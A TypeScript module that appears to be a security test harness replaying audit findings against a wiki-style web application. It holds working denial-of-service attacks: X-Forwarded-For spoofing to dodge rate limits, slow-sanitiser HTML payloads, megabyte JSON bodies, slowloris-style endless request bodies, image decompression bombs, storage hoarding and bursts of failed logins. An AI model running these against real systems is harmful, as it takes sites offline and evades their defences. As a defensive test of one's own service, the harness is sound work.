import { createConnection } from 'node:net';
import sharp from 'sharp';

/**
 * The attackers: cookies of a member, of a reviewer, and of further members; each call comes from a different network.
 */
export interface Attackers {
  url: string;
  member: string;
  reviewer: string;
  /** Two published timelines of thousands of events, for comparison. */
  timelines: [string, string];
}

export type Attack = (attackers: Attackers) => Promise<void>;

/** Responses by address and status, over all attacks. */
export const responseCounts: Record<string, number> = {};

let network = 0;
async function send(
  { url }: Attackers,
  path: string,
  { cookie, body, headers = {} }: { cookie?: string; body?: string | FormData; headers?: Record<string, string> } = {},
): Promise<Response | null> {
  network++;
  try {
    const response = await fetch(url + path, {
      method: body === undefined ? 'GET' : 'POST',
      body,
      signal: AbortSignal.timeout(60_000),
      headers: {
        'x-forwarded-for': `10.1.${(network >> 8) & 255}.${network & 255}`,
        ...(cookie && { cookie }),
        ...(typeof body === 'string' && { 'content-type': 'application/json' }),
        ...headers,
      },
    });
    await response.arrayBuffer();
    count(path, String(response.status));
    return response;
  } catch (error) {
    const name = (error as Error).name === 'TimeoutError' ? 'no answer in a minute' : 'connection cut';
    count(path, name);
    return null;
  }
}
function count(path: string, how: string) {
  const key = `${path.replace(/\?.*/, '')}: ${how}`;
  responseCounts[key] = (responseCounts[key] ?? 0) + 1;
}
const repeat = (count: number, work: (at: number) => unknown) =>
  Promise.all(Array.from({ length: count }, (_, at) => work(at)));

const saveDraft = (attackers: Attackers, text: object, itemId = 'augustus-en') =>
  send(attackers, '/api/user/version/save', {
    cookie: attackers.member,
    body: JSON.stringify({
      language: 'en',
      itemId,
      draft: true,
      text: { name: 'Augustus', otherNames: [], disambiguation: null, summary: '', body: '', ...text },
    }),
  });

/** H1: texts that were slow to clean. */
const slowTexts: Attack = (to) => {
  const bodies = [
    '<b>'.repeat(630_000),
    '<div>'.repeat(64_000),
    '<'.repeat(1_900_000),
    `<p style="${'color:red;'.repeat(190_000)}">x</p>`,
    `<table>${'<tr><td>x</td></tr>'.repeat(100_000)}</table>`,
    '<p>x</p>'.repeat(237_000),
    '<b>'.repeat(4000),
    '<b>'.repeat(199) + 'x' + '</b>'.repeat(199),
    '<p>x</p>'.repeat(19_000),
  ];
  return repeat(bodies.length, (at) => saveDraft(to, { body: bodies[at] }))
    .then(() => saveDraft(to, { name: `${'&amp;'.repeat(20_000)}lt;b&gt;` }))
    .then(() => undefined);
};

/** H2: lists that were slow to compare. */
const slowComparison: Attack = async (to) => {
  await repeat(4, () => send(to, `/data/revision/compare?a=${to.timelines[0]}&b=${to.timelines[1]}`));
};

/** H3 and similar: parameters and bodies of megabytes. */
const largeQuestions: Attack = async (to) => {
  const question = JSON.stringify({ from: '-1', end: '-1', regions: Array.from({ length: 560_000 }, () => 'europe') });
  await repeat(20, () => send(to, '/api/timeaxis/list', { body: question }));
  await send(to, '/api/timeaxis/list', { body: '['.repeat(3_900_000) });
  await send(to, '/api/timeaxis/list', {
    body: `{${Array.from({ length: 480_000 }, (_, at) => `"k${at}":1`).join(',')}}`,
  });
};

/** H4: bodies that never end. */
const endlessBodies: Attack = ({ url }) => {
  const { hostname, port } = new URL(url);
  const head = `POST /api/auth/checkUsername HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: 10.3.3.3\r\nContent-Type: application/json\r\nContent-Length: 7000000\r\n\r\n{"`;
  return repeat(
    50,
    () =>
      new Promise<void>((done) => {
        const socket = createConnection(Number(port), hostname, () => socket.write(head + 'a'.repeat(30_000)));
        socket.on('error', () => {}).resume();
        socket.once('close', () => done());
        setTimeout(() => socket.destroy(), 45_000).unref();
      }),
  ).then(() => undefined);
};

/** H5: small files that contain large pictures. */
const bombs: Promise<Uint8Array>[] = [
  sharp({ create: { width: 8000, height: 8000, channels: 3, background: '#09c' } })
    .avif({ effort: 0, quality: 20 })
    .toBuffer(),
  sharp({ create: { width: 6000, height: 6000, channels: 3, background: '#09c' } })
    .toColourspace('rgb16')
    .png({ progressive: true })
    .toBuffer(),
];
const largePictures: Attack = async (to) => {
  const [avif, png] = await Promise.all(bombs);
  await repeat(8, (at) => {
    const form = new FormData();
    form.set('input', JSON.stringify({ licence: 'CC0-1.0', source: { title: 's' } }));
    form.set('file', new Blob([Buffer.from(at % 4 === 3 ? png! : avif!)]), 'bomb');
    return send(to, at % 2 ? '/api/item/image/upload' : '/data/account/avatar', { cookie: to.member, body: form });
  });
};

/** M2: submissions that no reviewer could open. */
const unopenableSubmissions: Attack = async (to) => {
  await saveDraft(to, { body: '<b>'.repeat(3000) + 'x' });
  await send(to, '/data/review/queue', { cookie: to.reviewer });
};

/** M7, M8: many of everything, long names. */
const hoarding: Attack = async (to) => {
  for (let at = 0; at < 10; at++)
    await saveDraft(
      to,
      { body: `<p>${'word '.repeat(75_000)}</p>` },
      `${['plato', 'homer', 'cleopatra', 'hannibal'][at % 4]}-en`,
    );
  await repeat(10, () =>
    send(to, '/api/customRelationGraph/save', {
      cookie: to.member,
      body: JSON.stringify({
        language: 'en',
        graph: {
          name: 'g',
          edges: [],
          nodes: Array.from({ length: 500 }, () => ({ itemId: 'augustus', x: 0, y: 0, note: 'x'.repeat(400) })),
        },
      }),
    }),
  );
  await saveDraft(to, { name: 'n'.repeat(100_000) });
};

/** M3, with sign-ins at the same time. */
const locksAndPasswords: Attack = async (to) => {
  await repeat(30, (at) =>
    send(to, '/api/item/heartbeat/update', {
      cookie: to.member,
      body: JSON.stringify({ language: 'en', itemId: `subject${at}-en`, type: 'facts' }),
    }),
  );
  await repeat(8, (at) =>
    send(to, '/api/auth', { body: JSON.stringify({ username: `nobody${network + at}`, password: 'wrong12345' }) }),
  );
};

export const attacks: Record<string, Attack> = {
  slowTexts,
  slowComparison,
  largeQuestions,
  endlessBodies,
  largePictures,
  unopenable: unopenableSubmissions,
  hoarding,
  locksAndPasswords,
};
